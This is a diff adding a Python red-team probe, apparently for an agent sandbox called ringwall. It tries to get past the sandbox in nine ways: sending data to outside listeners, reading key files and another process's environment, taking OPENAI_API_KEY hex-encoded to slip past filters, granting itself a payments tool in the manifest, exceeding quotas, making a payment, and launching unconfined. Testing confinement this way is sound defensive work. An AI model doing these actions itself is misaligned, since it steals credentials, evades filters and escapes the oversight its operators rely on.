@@ -1,0 +1,119 @@
+"""A program that does not ask: it goes around the wall. ``python -m ringwall.redteam.around HOW WHAT``.
+
+Prints what it got hold of; the attacks in ``attacks/`` say what that would prove.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import sys
+from pathlib import Path
+
+from ringwall.call import Json
+
+FLOOD = 40  # twice what the office's manifest lets a temp ask at once
+
+def tcp(port: str) -> str:
+    """Send to a listener outside."""
+    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as out:
+        out.sendall(b"stolen over tcp")
+    return "SENT"
+
+
+def udp(port: str) -> str:
+    """Send a datagram to a listener outside."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
+        out.sendto(b"stolen over udp", ("127.0.0.1", int(port)))
+    return "SENT"
+
+
+def file(path: str) -> str:
+    """Read a key."""
+    return f"KEY READ, {len(Path(path).read_bytes())} bytes"
+
+
+def key(path: str) -> str:
+    """Take the model's key from the environment or its file; printed encoded, so that no filter knows it."""
+    found = os.environb.get(b"OPENAI_API_KEY", b"") or Path(path).read_bytes()
+    return f"KEY {found.strip().hex()}"
+
+
+def environ(pid: str) -> str:
+    """Read the environment of another agent's process."""
+    return f"ENVIRON READ, {len(Path('/proc', pid, 'environ').read_bytes())} bytes"
+
+
+def write(path: str) -> str:
+    """Give itself a tool, in the file that says who has which."""
+    with Path(path).open("a", encoding="utf-8") as manifest:
+        manifest.write('# "payments/pay" = []\n')
+    return "WRITTEN"
+
+
+def flood(path: str) -> str:
+    """Ask as often as it goes."""
+    args: Json = {"query": "opening hours"}
+    answers = [_post(path, "/v1/tools/call", {"tool": "search/web", "args": args}) for _ in range(FLOOD)]
+    return f"SERVED {sum(' 200 ' in answer for answer in answers)}"
+
+
+def door(path: str) -> str:
+    """Pay over somebody else's door."""
+    args: Json = {"to": "DE89370400440532013000", "amount": 5, "subject": "borrowed"}
+    return _post(path, "/v1/tools/call", {"tool": "payments/pay", "args": args})
+
+
+def operate(path: str) -> str:
+    """Order a launch without confinement, as an operator would."""
+    args: Json = {
+        "agent": "intern",
+        "task": "free",
+        "command": ["/bin/true"],
+        "cwd": "/usr",
+        "path": "/bin",
+        "per_session": True,
+        "unconfined": True,
+    }
+    answer = _post(path, "/v1/run", {"verb": "run", "args": args})
+    return f"STARTED {answer}" if " 200 " in answer else answer
+
+
+def _post(path: str, route: str, body: Json) -> str:
+    raw = json.dumps(body).encode()
+    head = (
+        f"POST {route} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(raw)}\r\n\r\n"
+    )
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
+        out.settimeout(5)
+        out.connect(path)
+        out.sendall(head.encode() + raw)
+        return out.recv(65536).decode(errors="replace")
+
+
+WAYS = {
+    "tcp": tcp,
+    "udp": udp,
+    "file": file,
+    "key": key,
+    "environ": environ,
+    "write": write,
+    "flood": flood,
+    "door": door,
+    "operate": operate,
+}
+
+
+def main() -> int:
+    """Try one way."""
+    try:
+        print(WAYS[sys.argv[1]](sys.argv[2]))
+    except OSError as fault:
+        print(f"failed: {fault}")
+        return 1
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
